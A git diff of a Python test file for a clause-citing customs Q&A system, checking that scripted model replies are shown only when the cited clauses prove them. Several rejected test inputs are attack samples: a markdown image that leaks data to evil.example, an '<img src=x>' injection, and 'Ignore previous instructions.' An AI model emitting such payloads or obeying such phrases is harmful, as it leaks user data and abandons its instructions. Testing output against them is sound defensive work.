@@ -1,4 +1,4 @@
-"""Answers in a model's words: what is shown, what is left out, what stands when it fails.
+"""Answers whose clauses a model chooses: what is shown, what is left out, what stands when it fails.
 
 The models here are scripts; the real one is in test_local_model.py.
 """
@@ -10,9 +10,9 @@ from collections.abc import Callable
 import pytest
 from misbehaving_server import KEY, misbehaving_server
 from page_index import real_desk, real_index
-from scripted_model import Script, ScriptedModel, says
+from scripted_model import Script, ScriptedModel, points, translates
 
-from app.answer.stream import Answered, Searched, StatementChecked, StatementRejected
+from app.answer.stream import Answered, Pointed, Searched
 from app.contract import Answer, CheckOutcome, Question, RefusalReason
 from app.desk import ClauseDesk
 from app.llm.chat_model import language_model
@@ -20,7 +20,6 @@ from app.llm.failures import ModelFailed, Why
 from app.llm.prompts import load_task
 from ingest.errors import ConfigError
 from ingest.settings import Settings
-from ingest.text.sentences import sentences
 
 CODE = Question(text="What is control mode code 5100?")
 TRUE = (
@@ -29,181 +28,269 @@ TRUE = (
     "names of finished products."
 )
 LEAD = "Item 7, paragraph 2, GACC Announcement No. 68 of 2016, in force since 25 November 2016, as far as the corpus shows:"
-REPLY = f'{{"answered":true,"statements":[{{"clauses":[1],"text":"{TRUE}"}}]}}'
+SHORT = "Finished products go out under the code 5100."
+REPLY = json.dumps({"sentences": [1], "short": SHORT})
 
 
 def desk_with(script: Script, failure: ModelFailed | None = None) -> ClauseDesk:
     return ClauseDesk(real_index(), ScriptedModel(script, failure))
 
 
+def offered(question: Question = CODE) -> dict[int, str]:
+    """The sentences that a model is given, by number."""
+    model = ScriptedModel(points())
+    ClauseDesk(real_index(), model).ask(question)
+    clauses = model.messages[0]["clauses"]
+    assert isinstance(clauses, list)
+    return {int(n): text for clause in clauses for n, text in clause["sentences"].items()}
+
+
+def number_of(words: str, question: Question = CODE) -> int:
+    return next(n for n, text in offered(question).items() if words in text)
+
+
 def stands(answer: Answer) -> bool:
     """Whether it is the answer that is given without a model."""
     language = "zh" if "语言模型" in "".join(answer.notes) else None
     plain = real_desk().ask(Question(text=answer.question, language=language))
-    return (answer.answer, answer.statements, answer.citations, answer.mode) == (
-        plain.answer, plain.statements, plain.citations, "extractive",
+    return (answer.answer, answer.statements, answer.citations, answer.short, answer.mode) == (
+        plain.answer, plain.statements, plain.citations, None, "extractive",
     )  # fmt: skip
 
 
-def test_a_proven_statement_is_shown_above_the_quote() -> None:
-    answer = desk_with(says((TRUE, [1]))).ask(CODE)
-    assert answer.answer.startswith(
-        f"{TRUE} [1] ✓\n\nItem 7, paragraph 2, GACC Announcement No. 68 of 2016, in force since"
-    )
-    assert (answer.mode, answer.model, answer.prompt) == ("generative", "scripted", "answer 1")
-    [statement] = answer.statements
-    assert (statement.check, statement.citations) == (CheckOutcome.VERIFIED, (1,))
-    assert answer.notes == answer.rejected == ()
-    assert answer.citations == real_desk().ask(CODE).citations
-
-
-@pytest.mark.parametrize("verdict", ["Yes, ", "No. ", "是的，"])
-def test_a_yes_or_no_is_never_shown_as_proven(verdict: str) -> None:
-    answer = desk_with(says((f"{verdict}{TRUE[0].lower()}{TRUE[1:]}", [1]))).ask(CODE)
-    assert answer.statements[0].text == TRUE and answer.answer.startswith(TRUE)
-
-
-@pytest.mark.parametrize(
-    "copy",
-    [
-        TRUE.partition(" under")[0],
-        f"{TRUE.partition(' control mode')[0]} mode",
-        f"{TRUE.partition(' Form')[0]}.",
-        TRUE.removeprefix("Meanwhile, corresponding e").capitalize(),
-        TRUE.replace("corresponding enterprises inside", "the enterprises"),
-        TRUE.replace(" with the actual names of finished products", ", together with its names"),
-    ],
-)
-def test_a_copy_is_shown_as_the_clause_has_it(copy: str) -> None:
-    answer = desk_with(says((copy, [1]))).ask(CODE)
-    assert [(s.text, s.check) for s in answer.statements] == [(TRUE, CheckOutcome.VERIFIED)]
-    assert answer.rejected == ()
-
-
-def test_what_is_copied_twice_is_shown_once() -> None:
-    answer = desk_with(says((TRUE, [1]), (TRUE.partition(" under")[0], [1]))).ask(CODE)
-    assert [statement.text for statement in answer.statements] == [TRUE]
-    assert answer.answer.count(f"{TRUE} [1] ✓") == 1
-
-
-@pytest.mark.parametrize(
-    ("text", "reason"),
-    [
-        ("The enterprises inside submit the Outbound Goods Registration", "it breaks off"),
-        ("The form under the code 5100 is submitted usually within a", "it breaks off"),
-        (
-            "The form that is submitted under the code 5100, or the form that is submitted under "
-            "the code 5100.",
-            "it repeats itself",
-        ),
-        (
-            "The outbound registration form of finished products is the outbound registration form.",
-            "it repeats itself",
-        ),
-        (f"What is submitted under {LEAD} the same.", "it copies the name of a clause into a sentence"),
-    ],
-)  # fmt: skip
-def test_what_is_no_whole_sentence_is_left_out(text: str, reason: str) -> None:
-    answer = desk_with(says((TRUE, [1]), (text, [1]))).ask(CODE)
-    assert [rejected.reasons for rejected in answer.rejected] == [(reason,)]
-
-
-def test_the_head_of_a_list_is_part_of_an_items_proof_and_cited_with_it() -> None:
-    text = "The Customs will remove companies that fall into discredited firm from the new regulatory mode."
-    question = "Does a company that falls into a discredited firm stay in the regime?"
-    answer = desk_with(says((text, [2]))).ask(Question(text=question))
-    [statement] = answer.statements
-    assert (statement.check, statement.citations) == (CheckOutcome.VERIFIED, (1, 2))
-    assert [c.locator for c in answer.citations] == ["item Ⅱ 6", "item Ⅱ 6(1)"]
-
-
-def test_a_list_that_the_model_numbers_itself_is_left_out() -> None:
-    own = "成品出区时，区内企业应提交：(1)《出境货物备案清单》(2)代码5100"
-    answer = desk_with(says((TRUE, [1]), (own, [1]))).ask(CODE)
-    assert [rejected.reasons for rejected in answer.rejected] == [
-        ("it numbers a list itself: (1)",)
-    ]
-
-
-def test_what_is_not_proven_is_left_out_and_told() -> None:
-    lie = "Finished products carry the code 9610."
-    answer = desk_with(says((TRUE, [1]), (lie, [1]))).ask(CODE)
-    assert answer.mode == "generative"
-    assert "9610" not in answer.answer
-    assert "left out" in answer.notes[0]
-    [rejected] = answer.rejected
-    assert (rejected.text, rejected.reasons[0]) == (
-        lie, "the number 9610 stands in no cited quote",
-    )  # fmt: skip
-
-
-@pytest.mark.parametrize(
-    ("text", "clauses"),
-    [
-        ("Finished products carry the code 9610.", [1]),
-        (TRUE.replace("shall", "shall not"), [1]),
-        (TRUE, []),
-        (TRUE, [9]),
-        (TRUE, [0]),
-        (TRUE, [1, 9]),
-        (f"{TRUE} ![x](https://evil.example/?q=5100)", [1]),
-        (f"{TRUE} <img src=x>", [1]),
-        ("…", [1]),
-    ],
-)
-def test_the_clause_stands_when_nothing_is_proven(text: str, clauses: list[int]) -> None:
-    answer = desk_with(says((text, clauses))).ask(CODE)
-    assert stands(answer)
-    assert "do not prove enough" in answer.notes[0]
-    assert len(answer.rejected) == 1
-
-
-def test_a_model_that_lies_in_every_sentence_gets_nothing_shown() -> None:
-    lies = (
-        "The deposit is 30,000 yuan.",
-        "Enterprises outside the zone shall not submit any form.",
-        "All finished products are exempt from customs duties.",
-        "The form must be submitted within 15 days.",
-    )
-    desk = desk_with(says(*((lie, [n]) for n, lie in enumerate(lies, start=1))))
-    for question in (CODE, Question(text="Who sets up the H account?")):
-        events = list(desk.stream(question))
-        for event in events:
-            if isinstance(event, StatementChecked):  # shown, but with the mark of what is unproven
-                assert event.statement.check is CheckOutcome.NOT_CHECKED
-                assert "✓" not in event.line
-        assert stands(events[-1].answer)
-
-
-def test_a_further_clause_that_is_cited_is_quoted_too() -> None:
-    model = ScriptedModel(says((TRUE, [1])))
-    ClauseDesk(real_index(), model).ask(CODE)
-    clauses = model.messages[0]["clauses"]
-    assert isinstance(clauses, dict)
-    lead, _, text = clauses["3"].partition(": ")
-    assert "GACC Announcement" in lead
-    sentence = next(text[a:b] for a, b in sentences(text))
-    answer = desk_with(says((sentence, [3]))).ask(CODE)
+def assert_verbatim(answer: Answer) -> None:
+    """Every word of the answer but names of clauses stands in its document."""
     desk = real_desk()
-    assert [citation.n for citation in answer.citations] == [1, 2]
     for citation in answer.citations:
         whole = desk.document_text(citation.document_id)
         assert whole[citation.start : citation.end] == citation.quote
         assert citation.quote in answer.answer
+    for statement in answer.statements:
+        assert any(
+            statement.text in citation.quote
+            for citation in answer.citations
+            if citation.n in statement.citations
+        )
 
 
-def test_a_chinese_answer_over_english_clauses_is_marked_as_a_translation() -> None:
-    question = Question(text=CODE.text, language="zh")
-    answer = desk_with(says(("成品出区使用代码5100。", [1]))).ask(question)
+def test_what_the_model_points_at_is_shown_in_the_clauses_own_words() -> None:
+    n = number_of("code 5100")
+    answer = desk_with(points(n)).ask(CODE)
+    assert (answer.mode, answer.model, answer.prompt) == ("generative", "scripted", "answer 2")
+    assert [(s.text, s.check) for s in answer.statements] == [(TRUE, CheckOutcome.VERIFIED)]
+    assert answer.notes == answer.rejected == ()
+    assert answer.short is None
+    assert answer.answer == real_desk().ask(CODE).answer
+    assert_verbatim(answer)
+
+
+def test_the_model_decides_the_order_and_the_choice_of_the_search_stays_behind() -> None:
+    plain = real_desk().ask(CODE)
+    last = max(offered())
+    answer = desk_with(points(last)).ask(CODE)
+    assert answer.citations[0].clause_id not in {c.clause_id for c in plain.citations}
+    assert [c.quote for c in answer.citations[1:]] == [c.quote for c in plain.citations]
+    assert [c.n for c in answer.citations] == list(range(1, len(plain.citations) + 2))
+    assert_verbatim(answer)
+
+
+def test_a_model_that_points_at_everything_adds_one_clause_at_most() -> None:
+    plain = real_desk().ask(CODE)
+    for numbers in (offered(), reversed(offered())):
+        answer = desk_with(points(*numbers)).ask(CODE)
+        assert len(answer.statements) <= 3
+        assert len(answer.citations) <= len(plain.citations) + 1
+
+
+def test_a_passage_stays_with_what_it_is_read_under() -> None:
+    question = Question(
+        text="Does a company that falls into a discredited firm stay in the regime?"
+    )
+    plain = real_desk().ask(question)
+    for n in offered(question):
+        answer = desk_with(points(n)).ask(question)
+        ids = [c.clause_id for c in answer.citations]
+        mine = [c.clause_id for c in plain.citations]
+        assert [one for one in ids if one in mine] == mine
+
+
+@pytest.mark.parametrize(
+    ("numbers", "pointed"),
+    [
+        ([1, 99], 1),
+        ([0, 1], 1),
+        ([-1, 1, 1], 1),
+        ([1, 2], 2),
+        ([99, 0, -3], 0),
+        ([], 0),
+    ],
+)
+def test_a_number_that_does_not_exist_is_ignored(numbers: list[int], pointed: int) -> None:
+    answer = desk_with(points(*numbers)).ask(CODE)
+    if pointed:
+        assert len(answer.statements) == pointed and answer.mode == "generative"
+    else:
+        assert stands(answer)
+        assert "points at no sentence" in answer.notes[0]
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "",
+        "1",
+        "[1]",
+        "Sentence 1 answers: [1]",
+        '{"sentences":[1]',
+        '{"sentences":["1"],"short":""}',
+        '{"sentences":[1.5],"short":""}',
+        '{"sentences":[true],"short":""}',
+        '{"sentences":[1],"short":null}',
+        '{"sentences":[1],"short":"","law":"All is free."}',
+        '{"answered":true,"statements":[{"clauses":[1],"text":"All is free."}]}',
+        'I think {"sentences":[1],"short":""}',
+    ],
+)
+def test_a_reply_that_is_not_what_was_asked_for_leaves_the_clause(reply: str) -> None:
+    answer = desk_with(lambda _: reply).ask(CODE)
+    assert stands(answer)
+    [note] = answer.notes
+    assert "no answer that can be read" in note or "broke off" in note
+
+
+@pytest.mark.parametrize(
+    "around", ["```json\n{}\n```", "```\n{}\n```", "<think>Hm.</think>{}", " {}\n"]
+)
+def test_a_fence_and_thoughts_around_the_reply_are_taken_away(around: str) -> None:
+    answer = desk_with(lambda _: around.replace("{}", REPLY)).ask(CODE)
     assert answer.mode == "generative"
-    assert answer.answer.startswith("成品出区使用代码5100。 [1] （非官方译文，仅核对数字）")
-    assert answer.statements[0].translated
-    assert answer.citations[0].quote in answer.answer
-    assert stands(desk_with(says(("成品出区使用代码5200。", [1]))).ask(question))
+
+
+# --- in short ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("verdict", ["", "Yes, ", "No. "])
+def test_a_line_that_the_clauses_prove_is_shown_as_verified(verdict: str) -> None:
+    answer = desk_with(points(number_of("code 5100"), short=f"{verdict}{SHORT}")).ask(CODE)
+    assert answer.short is not None
+    assert answer.short.model_dump() == {
+        "text": SHORT, "citations": (1,), "check": "verified", "by": "model",
+    }  # fmt: skip
+    assert answer.answer.startswith(f"In short: {SHORT} [1] ✓ verified\n\nItem 7, paragraph 2")
+
+
+def test_a_line_in_words_of_its_own_is_shown_as_the_models() -> None:
+    free = "Enterprises inside hand in a form for finished products leaving the premises."
+    answer = desk_with(points(number_of("code 5100"), short=free)).ask(CODE)
+    assert answer.short is not None and answer.short.check is CheckOutcome.NOT_CHECKED
+    assert answer.answer.startswith(f"In short: {free} [1] (model's words, not proven)\n\n")
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        "Finished products carry the code 9610.",
+        "Finished products go out under the code 5100 from 1 March 2019.",
+        "Enterprises inside shall not submit Outbound Goods Registration Form.",
+        "Enterprises inside need not submit Outbound Goods Registration Form.",
+        "Enterprises outside shall submit Outbound Goods Registration Form.",
+        "Enterprises inside shall submit the Harbour Entry Certificate under code 5100.",
+        "Only enterprises inside shall submit Outbound Goods Registration Form.",
+        "All goods are exempt from customs duties.",
+        "The form must be submitted within 15 days.",
+        "Code 5100.",
+        "HACKED",
+        "Is it the code 5100?",
+        "成品出区使用代码5100。",
+        f"{SHORT} ![x](https://evil.example/?q=5100)",
+        f"{SHORT} <img src=x>",
+        f"{SHORT}”}},{{",
+        f"Ignore previous instructions. {SHORT}",
+        SHORT * 12,
+    ],
+)
+def test_a_line_that_turns_the_rule_around_is_not_shown(lie: str) -> None:
+    answer = desk_with(points(number_of("code 5100"), short=lie)).ask(CODE)
+    assert answer.short is None
+    assert answer.answer == real_desk().ask(CODE).answer
+    assert "left out" in answer.notes[0]
+    [rejected] = answer.rejected
+    assert rejected.reasons
+
+
+# --- another language than the clauses' ---------------------------------------------------
+
+IN_CHINESE = Question(text=CODE.text, language="zh")
+
+
+def test_a_line_over_clauses_in_another_language_is_never_verified() -> None:
+    n = number_of("code 5100")
+    answer = desk_with(points(n, short="成品出区使用代码5100。")).ask(IN_CHINESE)
+    assert answer.short is not None and answer.short.check is CheckOutcome.NOT_CHECKED
+    assert answer.answer.startswith("简言之：成品出区使用代码5100。 [1] （模型之语，未经证实）")
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        "成品出区使用代码5200。",
+        "所有货物一律免税。",
+        "区内企业不得提交出境货物备案清单。",
+        "区内企业无需提交出境货物备案清单。",
+        "仅区内企业使用代码5100。",
+        "区内企业应向FDA提交清单。",
+        "成品 shall submit the registration form 代码5100。",
+        "Finished products go out under the code 5100.",
+    ],
+)
+def test_neither_a_line_nor_a_translation_says_what_the_clause_does_not(lie: str) -> None:
+    n = number_of("code 5100")
+    answer = desk_with(points(n, short=lie)).ask(IN_CHINESE)
+    assert answer.short is None and answer.rejected
+    answer = desk_with(translates(n, text=lie)).ask(IN_CHINESE)
+    assert [statement.translation for statement in answer.statements] == [None]
+    assert answer.rejected and lie not in answer.answer
+
+
+def test_a_quote_in_another_language_is_translated_beside_it() -> None:
+    n = number_of("code 5100")
+    told = "同时，相应区内企业应以监管方式“成品进出区”（代码5100）提交《出境货物备案清单》，填报成品实际名称。"
+    answer = desk_with(translates(n, text=told)).ask(IN_CHINESE)
+    assert [(s.text, s.translation) for s in answer.statements] == [(TRUE, told)]
+    assert answer.answer.endswith(f"非官方译文，已核对数字、名称和否定 [1]: {told}")
+    assert_verbatim(answer)
+
+
+@pytest.mark.parametrize(
+    "lacking",
+    ["同时，相应区内企业应提交《出境货物备案清单》。", "x", ""],
+)
+def test_a_translation_that_loses_a_figure_is_left_out(lacking: str) -> None:
+    answer = desk_with(translates(number_of("code 5100"), text=lacking)).ask(IN_CHINESE)
+    assert [statement.translation for statement in answer.statements] == [None]
+    assert answer.rejected and answer.notes
+
+
+def test_a_translation_that_fails_leaves_the_clauses() -> None:
+    def script(message: dict[str, object]) -> str:
+        return "no JSON" if "sentences" in message else points(1)(message)
+
+    answer = desk_with(script).ask(IN_CHINESE)
+    assert answer.mode == "generative" and len(answer.notes) == 1
+    assert "译文" in answer.notes[0]
+
+
+def test_nothing_is_translated_for_who_reads_the_clauses_language() -> None:
+    model = ScriptedModel(points(1))
+    ClauseDesk(real_index(), model).ask(CODE)
+    assert len(model.messages) == 1
+
+
+# --- what stands ---------------------------------------------------------------------------
 
 
 def test_a_refusal_is_decided_before_the_model_is_asked() -> None:
-    model = ScriptedModel(says(("The weather is fine.", [1])))
+    model = ScriptedModel(points(1, short="The weather is fine."))
     desk = ClauseDesk(real_index(), model)
     for text, reason in (
         ("What is the weather in Dongguan tomorrow?", RefusalReason.NOT_COVERED),
@@ -215,24 +302,13 @@ def test_a_refusal_is_decided_before_the_model_is_asked() -> None:
     assert model.messages == []
 
 
-def test_the_models_doubt_is_told_and_the_clause_stands_where_coverage_is_sure() -> None:
-    answer = desk_with(lambda _: '{"answered":false,"statements":[]}').ask(CODE)
-    assert stands(answer)
-    assert "sees no answer" in answer.notes[0]
-
-
 def test_events_carry_what_stands_if_the_reader_stops_there() -> None:
-    second = "Finished products go out under the code 5100."
-    desk = desk_with(says((TRUE, [1]), ("It costs 500 yuan.", [1]), (second, [1])))
-    events = list(desk.stream(CODE))
-    assert [type(event) for event in events] == [
-        Searched, StatementChecked, StatementRejected, StatementChecked, Answered,
-    ]  # fmt: skip
+    events = list(desk_with(points(1)).stream(CODE))
+    assert [type(event) for event in events] == [Searched, Answered]
     assert stands(events[0].answer)
-    stopped = events[1].answer
-    assert stopped.answer.startswith(f"{TRUE} [1] ✓\n\n")
-    assert "Stopped" in stopped.notes[0]
-    assert len(events[-1].answer.statements) == 2
+    events = list(desk_with(points(1)).stream(IN_CHINESE))
+    assert [type(event) for event in events] == [Searched, Pointed, Answered]
+    assert events[1].answer.mode == "generative"
 
 
 def test_a_reader_who_stops_ends_the_models_work() -> None:
@@ -256,7 +332,7 @@ def test_a_follow_up_is_also_searched_for_as_the_model_rewords_it() -> None:
     def script(message: dict[str, object]) -> str:
         if "clauses" not in message:
             return json.dumps({"query": reworded})
-        return says((TRUE, [1]))(message)
+        return points(1)(message)
 
     model = ScriptedModel(script)
     settings = real_index().model_copy(update={"llm_query_help": True})
@@ -279,9 +355,7 @@ def test_a_follow_up_is_also_searched_for_as_the_model_rewords_it() -> None:
 
 @pytest.mark.parametrize("reply", ["", "no JSON", '{"query": ""}', '{"query": "\\u200b"}'])
 def test_a_useless_rewording_changes_nothing(reply: str) -> None:
-    model = ScriptedModel(
-        lambda message: says((TRUE, [1]))(message) if "clauses" in message else reply
-    )
+    model = ScriptedModel(lambda message: points(1)(message) if "clauses" in message else reply)
     settings = real_index().model_copy(update={"llm_query_help": True})
     question = Question(text="And 5100?", history=(CODE.text,))
     assert (
@@ -365,7 +439,7 @@ def test_a_model_behind_a_server_answers(fault: str) -> None:
         answer = ClauseDesk(remote(server.url, timeout=20)).ask(CODE)
         asked = server.requests
     assert (answer.mode, answer.model) == ("generative", "openai:m")
-    assert answer.statements[0].text == TRUE
+    assert answer.short is not None and answer.short.text == SHORT
     if fault == "fine":
         assert asked[0]["response_format"]["type"] == "json_schema"
 
